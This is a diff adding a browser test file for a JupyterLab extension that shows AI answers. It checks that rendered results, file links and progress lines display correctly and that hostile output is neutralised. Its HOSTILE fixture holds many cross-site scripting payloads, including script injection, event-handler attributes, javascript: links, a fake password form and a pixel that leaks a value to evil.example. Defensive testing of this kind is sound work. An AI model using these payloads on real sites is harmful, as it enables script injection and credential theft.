@@ -1,0 +1,291 @@
+"""What a person sees in JupyterLab, in a real browser: results, links, progress, and nothing that does harm.
+
+Whatever came out of a sandbox or an answer is foreign. Outputs of a cell that was just run are *trusted* by
+JupyterLab, which shows their HTML as it is, so this is where a hostile answer would have its chance.
+"""
+
+import re
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+from browser import Browser, Lab, Notebook
+from notebook_runs import Jupyter
+from playwright.sync_api import expect
+
+
+@pytest.fixture(scope="module")
+def lab(tmp_path_factory):
+    directory = tmp_path_factory.mktemp("lab")
+    lab = Lab(Jupyter(tmp_path_factory.mktemp("lab-home")), directory)
+    yield lab
+    lab.close()
+
+
+@pytest.fixture(scope="module")
+def browser():
+    browser = Browser()
+    yield browser
+    browser.close()
+
+
+def check_nothing_escaped(notebook: Notebook) -> None:
+    """The page is where it was, asked nobody else for anything, opened nothing, and ran no foreign script."""
+    assert (notebook.refused, notebook.dialogs, notebook.windows, notebook.left_for) == ([], [], [], [])
+    flags = notebook.page.evaluate("() => Object.keys(window).filter(name => name.startsWith('hostile'))")
+    assert flags == []
+
+
+def check_console_is_clean(notebook: Notebook) -> None:
+    assert not [line for line in notebook.console if line.startswith(("error", "uncaught"))], notebook.console
+
+
+def check_outputs_are_harmless(notebook: Notebook) -> None:
+    """No element below any cell can run a script, send a form, or load from elsewhere."""
+    area = notebook.page.locator(".jp-Notebook .jp-OutputArea-output")
+    found = area.evaluate_all(
+        """areas => areas.flatMap(area => [...area.querySelectorAll('*')]).flatMap(element => [
+             ...(/^(script|iframe|object|embed|form|input|button|link|meta|base|style|svg)$/i.test(element.localName) ? [element.outerHTML] : []),
+             ...[...element.attributes].filter(a => /^(on|srcdoc|formaction)/i.test(a.name)).map(a => a.name + '=' + a.value),
+           ])"""
+    )
+    assert found == [], found
+    for address in area.locator("a[href]").evaluate_all("links => links.map(link => link.href)"):
+        assert urlsplit(address).scheme in ("http", "https", "mailto"), address
+    for address in area.locator("[src]").evaluate_all("elements => elements.map(element => element.src)"):
+        assert address.startswith((f"{notebook.lab.url}/", "data:image/png;", "blob:")), address
+
+
+RESULTS = """
+# Measure the tides.
+
+> First the table, then the figure.
+
+```python
+# A month of tides
+import os
+import matplotlib
+matplotlib.use("Agg")
+import matplotlib.pyplot as plt
+import numpy as np
+
+folder = os.environ["OUTPUT_DIR"]
+day = np.arange(1, 29)
+metres = 2 + np.sin(day / 28 * 4 * np.pi)
+with open(os.path.join(folder, "tides.csv"), "w") as table:
+    table.write("day,metres\\n")
+    table.writelines(f"{d},{m:.2f}\\n" for d, m in zip(day, metres))
+figure, axis = plt.subplots(figsize=(6, 3))
+axis.plot(day, metres)
+figure.savefig(os.path.join(folder, "tides.png"), dpi=100)
+print("highest", metres.max().round(2))
+```
+
+The tide turns twice a month. It costs $5 to look and $6 to stay; $a^2$ is mathematics.
+"""
+
+
+def check_results(notebook: Notebook) -> None:
+    """What the cell of `RESULTS` shows, however the notebook was opened."""
+    output = notebook.output(0)
+    image = output.locator("img[src^='data:image/png']")
+    expect(image).to_have_count(1)
+    image.scroll_into_view_if_needed()
+    notebook.page.wait_for_function("image => image.complete", arg=image.element_handle())
+    assert image.evaluate("image => [image.naturalWidth, image.naturalHeight]") == [600, 300]
+
+    rows = output.locator("table tr").all_inner_texts()
+    assert rows[0].split() == ["day", "metres"] and rows[1].split() == ["1", "2.43"] and len(rows) == 11
+
+    link = output.get_by_role("link", name="tides.csv").first
+    saved = (notebook.lab.directory / "tides/claude_files/tides.csv").read_bytes()
+    assert saved.startswith(b"day,metres\n1,2.43\n")
+    assert notebook.lab.get(link.evaluate("link => link.href")) == saved
+
+    text = notebook.text(0)
+    assert "It costs $5 to look and $6 to stay" in text
+    assert output.locator("mjx-container").count() == 1
+    assert "highest" not in text, "the step should be folded"
+    assert re.search(r"offline · opus-5-5 · .* · 1 run · turn 1", text.splitlines()[-1])
+    assert "…" not in text, "the line that says what is being done should be gone"
+
+
+def test_results_can_be_seen_opened_and_found_again(lab, browser):
+    name = lab.write("tides", "%python\nMeasure the tides.", script=RESULTS)
+    with browser.open(lab, name) as notebook:
+        notebook.run_all()
+        check_results(notebook)
+
+        step = notebook.output(0).locator("details", has_text="Python - A month of tides")
+        step.locator("summary").click()
+        expect(step.locator("pre").last).to_contain_text("highest 2.97")
+        expect(step.locator("pre").first).to_contain_text("import numpy as np")
+        assert step.locator("pre span[class]").count() > 20, "the code is not coloured"
+
+        notebook.reload()
+        check_results(notebook)
+        notebook.output(0).get_by_role("link", name="tides.csv").first.click()
+        expect(notebook.page.locator(".jp-CSVViewer")).to_be_visible()
+        check_nothing_escaped(notebook)
+        check_console_is_clean(notebook)
+
+    with browser.open(lab, lab.from_a_colleague(name)) as notebook:
+        check_results(notebook)
+        check_nothing_escaped(notebook)
+
+
+HOSTILE = r"""
+# Be hostile.
+
+````python
+# Nothing to see here
+import os
+
+folder = os.environ["OUTPUT_DIR"]
+script = "for (const w of [window, parent, top]) { try { w.hostileFile = 1; w.alert('hostile'); w.location = 'https://evil.example/' } catch {} }"
+page = f"<!doctype html><title>Report</title><h1 id=seen>Quarterly report</h1><script>{script}</script>" \
+       f"<img src=x onerror=\"{script}\"><iframe srcdoc=\"<script>{script}</script>\"></iframe>" \
+       "<meta http-equiv=refresh content='0; url=https://evil.example/refresh'><form action=https://evil.example><input autofocus onfocus='top.hostileFocus=1'></form>"
+drawing = f'<svg xmlns="http://www.w3.org/2000/svg" width="300" height="80" onload="{script}"><script>{script}</script>' \
+          f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{script}"/></foreignObject><circle cx="40" cy="40" r="30" fill="teal"/></svg>'
+cell = "<img src=x onerror=window.hostileCell=1>"
+names = {
+    "report.html": page,
+    "report.xhtml": page,
+    "drawing.svg": drawing,
+    "table.csv": f"a,b\n{cell},[x](javascript:window.hostileCell=1)\n",
+    "notes.md": f"# Notes\n{cell}\n<script>{script}</script>\n",
+    "data.json": '{"</code></pre><img src=x onerror=window.hostileJson=1>": 1}',
+    "<img src=x onerror=window.hostileName=1>.txt": "a name is foreign, too",
+}
+for name, text in names.items():
+    with open(os.path.join(folder, name), "w") as file:
+        file.write(text)
+print("</code></pre></details><script>window.hostileOutput=1</script>" + cell)
+print("```\n</details>\n\n" + cell + "\n\n[x](javascript:window.hostileOutput=1)\n\x1b]8;;javascript:window.hostileOutput=1\x07link\x1b]8;;\x07")
+````
+
+Hello <img src="x" onerror="window.hostileText=1"> there.
+
+<script>window.hostileText=1</script>
+
+<iframe srcdoc="<script>top.hostileText=1</script>"></iframe>
+
+<svg onload="window.hostileText=1"><a xlink:href="javascript:window.hostileText=1"><text>svg</text></a></svg>
+
+<a href="javascript:window.hostileText=1">anchor</a> [link](javascript:window.hostileText=1)
+[reference][bad] <javascript:window.hostileText=1> [data](data:text/html,<script>top.hostileText=1</script>)
+![pixel](https://evil.example/pixel.png?secret=1) ![handler](x"onerror="window.hostileText=1)
+
+<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
+<form action="https://evil.example"><input name="password"><button>Log in</button></form>
+<style>body { display: none }</style><base href="https://evil.example/">
+
+$\href{javascript:window.hostileText=1}{x}$ and $\class{hostile}{x}$
+
+</details><details open ontoggle="window.hostileText=1"><summary>x</summary></details>
+
+[bad]: javascript:window.hostileText=1
+"""
+
+
+def check_hostile(notebook: Notebook) -> None:
+    expect(notebook.output(0)).to_contain_text("turn 1")
+    drawing = notebook.output(0).locator("img").first
+    drawing.scroll_into_view_if_needed()
+    notebook.page.wait_for_function("image => image.complete", arg=drawing.element_handle())
+    assert drawing.evaluate("image => image.naturalWidth") == 300, "the drawing should be shown as an image"
+    check_outputs_are_harmless(notebook)
+    check_nothing_escaped(notebook)
+
+
+def test_hostile_answers_and_files_do_nothing(lab, browser):
+    name = lab.write("hostile", "Be hostile.", script=HOSTILE)
+    with browser.open(lab, name) as notebook:
+        notebook.run_all()
+        for fold in notebook.output(0).locator("summary").all():
+            fold.click()
+        for link in notebook.output(0).locator("a").all():
+            link.hover()
+        check_hostile(notebook)
+        check_console_is_clean(notebook)
+        notebook.reload()
+        check_hostile(notebook)
+
+        # Opened as JupyterLab opens a file: seen, and still without effect. The browser says so in the console.
+        notebook.output(0).get_by_role("link", name="report.html").first.click()
+        page = notebook.page.frame_locator(".jp-HTMLViewer iframe")
+        expect(page.locator("#seen")).to_have_text("Quarterly report")
+        notebook.wait_for_console("Blocked script execution")
+        check_nothing_escaped(notebook)
+
+    with browser.open(lab, lab.from_a_colleague(name)) as notebook:
+        check_hostile(notebook)
+
+
+ERROR = "[data-mime-type='application/vnd.jupyter.stderr']"
+
+
+def check_did_not_run(notebook: Notebook, index: int) -> None:
+    expect(notebook.cell(index).locator(".jp-InputPrompt")).to_have_text("[ ]:")
+    assert notebook.text(index) == ""
+
+
+def test_an_interrupt_keeps_what_has_arrived(lab, browser):
+    script = "# Count.\n\nOne, two, three.\n\n> Is there more?\n\n<!-- fault: stall -->\n\nNever said.\n\n# And then?\n\nFour.\n"
+    name = lab.write("stalled", "Count.", "And then?", script=script)
+    with browser.open(lab, name) as notebook:
+        notebook.menu("Run", "Run All Cells")
+        expect(notebook.output(0)).to_contain_text("One, two, three.")
+        expect(notebook.output(0)).to_contain_text(re.compile(r"Thinking …"))
+        expect(notebook.cell(0).locator(".jp-InputPrompt")).to_have_text("[*]:")
+        notebook.interrupt()
+        error = notebook.output(0).locator(ERROR)
+        expect(error).to_contain_text("KeyboardInterrupt")
+        expect(error).to_contain_text("What had been generated is billed")
+        notebook.wait_idle()
+        text = notebook.text(0)
+        assert "One, two, three." in text and "Never said" not in text
+        assert "Thinking …" not in text, "the line that says what is being done should be gone"
+        check_did_not_run(notebook, 1)
+
+        notebook.run_cell(1)
+        expect(notebook.output(1)).to_contain_text("Four.")
+        check_console_is_clean(notebook)
+
+
+def test_a_mistyped_magic_says_what_was_meant(lab, browser):
+    name = lab.write("mistyped", "%efort high\n\nHello", "%effort")
+    with browser.open(lab, name) as notebook:
+        notebook.menu("Run", "Run All Cells")
+        error = notebook.output(0).locator(ERROR)
+        expect(error).to_contain_text("MagicError")
+        expect(error).to_contain_text("Did you mean `%effort`?")
+        notebook.wait_idle()
+        check_did_not_run(notebook, 1)
+        notebook.run_cell(1)
+        expect(notebook.output(1)).to_contain_text("medium")
+        check_nothing_escaped(notebook)
+        check_console_is_clean(notebook)
+
+
+def test_the_checks_see_what_does_escape(lab, browser):
+    with browser.open(lab, lab.write("escapes", "Hello")) as notebook:
+        for escape, noted in (
+            ("() => fetch('https://evil.example/').catch(() => {})", lambda: notebook.refused.pop()),
+            ("() => alert('hello')", lambda: notebook.dialogs.pop()),
+            ("() => { hostile = 1 }", lambda: notebook.page.evaluate("() => { delete window.hostile }")),
+        ):
+            check_nothing_escaped(notebook)
+            notebook.page.evaluate(escape)
+            with pytest.raises(AssertionError):
+                check_nothing_escaped(notebook)
+            noted()
+        with notebook.page.expect_popup():
+            notebook.page.evaluate("() => { open('about:blank') }")
+        assert notebook.windows == ["about:blank"]
+        notebook.output(0).evaluate("area => area.innerHTML = '<div class=jp-OutputArea-output><a href=javascript:hostile=1 onclick=hostile=1>x</a></div>'")
+        with pytest.raises(AssertionError):
+            check_outputs_are_harmless(notebook)
+        notebook.page.goto(f"{lab.url}/api")
+        assert notebook.left_for == [f"{lab.url}/api"]
